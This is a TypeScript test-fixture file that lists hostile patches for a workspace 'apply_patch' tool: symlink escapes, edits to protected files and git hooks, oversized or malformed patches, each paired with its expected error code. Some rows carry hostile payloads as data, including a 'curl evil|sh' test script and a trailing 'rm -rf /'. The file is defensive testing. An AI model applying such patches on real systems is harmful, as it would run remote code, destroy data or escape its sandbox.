import type { ErrorCode } from "../../src/core/errors.ts";
import { APPLY_PATCH_MAX_BYTES, APPLY_PATCH_MAX_FILES } from "../../src/core/limits.ts";
import type { Tree } from "../helpers/fixture.ts";
import { HOSTILE_PATHS } from "./hostile_paths.ts";

/**
 * One hostile patch: the tree it is applied to, and the error body `apply_patch`
 * must answer with through `executeToolCall` (an argument error is
 * `TOOL_ARGUMENTS_INVALID` with the precise code as `message`). After every row
 * the workspace's bytes are as before, nothing outside changed, no temp file is
 * left.
 */
export interface HostilePatchCase {
  /** What the row attacks. */
  name: string;
  tree: Tree;
  patch: string;
  /** The result's `error.code`. */
  code: ErrorCode;
  /** The result's `error.message`, for argument errors (the precise code). */
  message?: ErrorCode;
  /** Run with `DEFAULT_PROTECTED_PATHS`. @default false */
  protectedPaths?: boolean;
}

/** The tree every row starts from (unless it gives its own): files to update, links out, a protected file. */
export const PATCH_TREE: Tree = [
  "a.txt=one\ntwo\nthree\n",
  "d/b.txt=alpha\nbeta\n",
  "package.json={}\n",
  "out => @outside",
  "secret-link.txt => @outside/secret.txt",
  "d/up => ../..",
];

const begin = (body: string) => `*** Begin Patch\n${body}*** End Patch\n`;
const update = (path: string) => `*** Update File: ${path}\n@@\n-one\n+ONE\n`;

/**
 * Hostile paths from the shared table, each in the three places a patch names
 * one. Rows whose path a patch line cannot carry as given are left out, with
 * the reason: paths with leading or trailing blanks (a header's path is
 * trimmed, as Codex trims it, so `f ` is the plain name `f`), and the empty path
 * (its own row below: the header names no path).
 */
const pathRows: HostilePatchCase[] = HOSTILE_PATHS.filter((row) => row.path !== "" && row.path.trim() === row.path)
  .flatMap((row) => {
    const argumentError = { code: "TOOL_ARGUMENTS_INVALID" as const, message: row.code };
    return [
      {
        name: `Add File: ${row.name}`,
        tree: PATCH_TREE,
        patch: begin(`*** Add File: ${row.path}\n+x\n`),
        ...argumentError,
      },
      { name: `Update File: ${row.name}`, tree: PATCH_TREE, patch: begin(update(row.path)), ...argumentError },
      {
        name: `Delete File: ${row.name}`,
        tree: PATCH_TREE,
        patch: begin(`*** Delete File: ${row.path}\n`),
        ...argumentError,
      },
      {
        name: `Move to: ${row.name}`,
        tree: PATCH_TREE,
        patch: begin(`*** Update File: a.txt\n*** Move to: ${row.path}\n@@\n-one\n+ONE\n`),
        ...argumentError,
      },
      // A good file first: the bad path must stop the patch before the good file changes.
      {
        name: `a good file, then ${row.name}`,
        tree: PATCH_TREE,
        patch: begin(`${update("a.txt")}*** Add File: ${row.path}\n+x\n`),
        ...argumentError,
      },
    ];
  });

/** Every hostile patch. */
export const HOSTILE_PATCHES: readonly HostilePatchCase[] = [
  ...pathRows,
  // Links that lead out of the workspace.
  {
    name: "update through a link to a file outside",
    tree: PATCH_TREE,
    patch: begin(update("secret-link.txt")),
    code: "PATH_ESCAPES_WORKSPACE",
  },
  {
    name: "update in a folder linked outside",
    tree: PATCH_TREE,
    patch: begin(update("out/secret.txt")),
    code: "PATH_ESCAPES_WORKSPACE",
  },
  {
    name: "add in a folder linked outside",
    tree: PATCH_TREE,
    patch: begin("*** Add File: out/new.txt\n+x\n"),
    code: "PATH_ESCAPES_WORKSPACE",
  },
  {
    name: "add below a folder linked outside, folders missing",
    tree: PATCH_TREE,
    patch: begin("*** Add File: out/deep/er/new.txt\n+x\n"),
    code: "PATH_ESCAPES_WORKSPACE",
  },
  {
    name: "delete in a folder linked outside",
    tree: PATCH_TREE,
    patch: begin("*** Delete File: out/secret.txt\n"),
    code: "PATH_ESCAPES_WORKSPACE",
  },
  {
    name: "move into a folder linked outside",
    tree: PATCH_TREE,
    patch: begin("*** Update File: a.txt\n*** Move to: out/moved.txt\n@@\n-one\n+ONE\n"),
    code: "PATH_ESCAPES_WORKSPACE",
  },
  {
    name: "add through a link to the parent of the root",
    tree: PATCH_TREE,
    patch: begin("*** Add File: d/up/x.txt\n+x\n"),
    code: "PATH_ESCAPES_WORKSPACE",
  },
  {
    name: "a good update, then a link out (nothing changes)",
    tree: PATCH_TREE,
    patch: begin(`${update("a.txt")}*** Delete File: out/secret.txt\n`),
    code: "PATH_ESCAPES_WORKSPACE",
  },
  // Protected paths.
  {
    name: "update a protected file",
    tree: PATCH_TREE,
    patch: begin('*** Update File: package.json\n@@\n-{}\n+{"scripts":{"test":"curl evil|sh"}}\n'),
    code: "PROTECTED_PATH",
    protectedPaths: true,
  },
  {
    name: "add a git hook",
    tree: PATCH_TREE,
    patch: begin("*** Add File: .git/hooks/pre-commit\n+#!/bin/sh\n"),
    code: "PROTECTED_PATH",
    protectedPaths: true,
  },
  {
    name: "move a file onto a protected name",
    tree: PATCH_TREE,
    patch: begin("*** Update File: a.txt\n*** Move to: Makefile\n@@\n-one\n+all:\n"),
    code: "PROTECTED_PATH",
    protectedPaths: true,
  },
  {
    name: "delete a protected file",
    tree: PATCH_TREE,
    patch: begin("*** Delete File: package.json\n"),
    code: "PROTECTED_PATH",
    protectedPaths: true,
  },
  {
    name: "update a protected file through a link",
    tree: [...PATCH_TREE, "pkg-link => package.json"],
    patch: begin('*** Update File: pkg-link\n@@\n-{}\n+{"x":1}\n'),
    code: "PROTECTED_PATH",
    protectedPaths: true,
  },
  // Size and shape.
  {
    name: "a patch over the byte limit",
    tree: PATCH_TREE,
    patch: begin(`*** Add File: big.txt\n${"+0123456789abcdef\n".repeat(APPLY_PATCH_MAX_BYTES / 18 + 1)}`),
    code: "TOOL_ARGUMENTS_INVALID",
    message: "CONTENT_TOO_LARGE",
  },
  {
    name: "more files than the limit",
    tree: PATCH_TREE,
    patch: begin(
      Array.from({ length: APPLY_PATCH_MAX_FILES + 1 }, (_, i) => `*** Add File: many/${i}.txt\n+x\n`).join(""),
    ),
    code: "PATCH_INVALID",
  },
  {
    name: "the workspace root",
    tree: PATCH_TREE,
    patch: begin("*** Delete File: .\n"),
    code: "WORKSPACE_ROOT_PROTECTED",
  },
  { name: "a header naming no path", tree: PATCH_TREE, patch: begin("*** Add File: \n+x\n"), code: "PATCH_INVALID" },
  {
    name: "no '*** Begin Patch'",
    tree: PATCH_TREE,
    patch: "*** Update File: a.txt\n@@\n-one\n+ONE\n",
    code: "PATCH_INVALID",
  },
  {
    name: "a hunk line without a mark",
    tree: PATCH_TREE,
    patch: begin("*** Update File: a.txt\n@@\n-one\nONE\n"),
    code: "PATCH_INVALID",
  },
  {
    name: "one file twice",
    tree: PATCH_TREE,
    patch: begin(`${update("a.txt")}${update("./a.txt")}`),
    code: "PATCH_INVALID",
  },
  {
    name: "one file twice through a link",
    tree: [...PATCH_TREE, "alias.txt => a.txt"],
    patch: begin(`${update("a.txt")}${update("alias.txt")}`),
    code: "PATCH_INVALID",
  },
  // A file spelled through a linked folder and directly is one file (each of these wrote the first spelling and
  // then failed ALREADY_EXISTS half-way, putting nothing back).
  {
    name: "one new file twice, through a linked folder and directly",
    tree: [...PATCH_TREE, "real/", "linked => real"],
    patch: begin(`${update("a.txt")}*** Add File: linked/x.txt\n+1\n*** Add File: real/x.txt\n+2\n`),
    code: "PATCH_INVALID",
  },
  {
    name: "a move to a new file through a linked folder, and the same file added directly",
    tree: [...PATCH_TREE, "real/", "linked => real"],
    patch: begin(`*** Update File: a.txt\n*** Move to: linked/y.txt\n*** Add File: real/y.txt\n+2\n`),
    code: "PATCH_INVALID",
  },
  {
    name: "one new file twice below a linked folder, the folders between missing",
    tree: [...PATCH_TREE, "real/", "linked => real"],
    patch: begin(`${update("a.txt")}*** Add File: real/new/x.txt\n+1\n*** Add File: linked/new/x.txt\n+2\n`),
    code: "PATCH_INVALID",
  },
  {
    name: "text after '*** End Patch'",
    tree: PATCH_TREE,
    patch: begin(update("a.txt")) + "rm -rf /\n",
    code: "PATCH_INVALID",
  },
  {
    name: "add a file that exists",
    tree: PATCH_TREE,
    patch: begin("*** Add File: d/b.txt\n+x\n"),
    code: "PATCH_FILE_EXISTS",
  },
  {
    name: "move onto a file that exists",
    tree: PATCH_TREE,
    patch: begin("*** Update File: a.txt\n*** Move to: d/b.txt\n@@\n-one\n+ONE\n"),
    code: "PATCH_FILE_EXISTS",
  },
  { name: "update a missing file", tree: PATCH_TREE, patch: begin(update("missing.txt")), code: "NOT_FOUND" },
  {
    name: "delete a missing file",
    tree: PATCH_TREE,
    patch: begin("*** Delete File: missing.txt\n"),
    code: "NOT_FOUND",
  },
  { name: "update a folder", tree: PATCH_TREE, patch: begin(update("d")), code: "NOT_A_FILE" },
  { name: "delete a folder", tree: PATCH_TREE, patch: begin("*** Delete File: d\n"), code: "NOT_A_FILE" },
  {
    name: "hunk not found in the last file (the first two stay as they were)",
    tree: PATCH_TREE,
    patch: begin(`${update("a.txt")}*** Add File: new.txt\n+x\n*** Update File: d/b.txt\n@@\n-gamma\n+GAMMA\n`),
    code: "PATCH_HUNK_NOT_FOUND",
  },
];
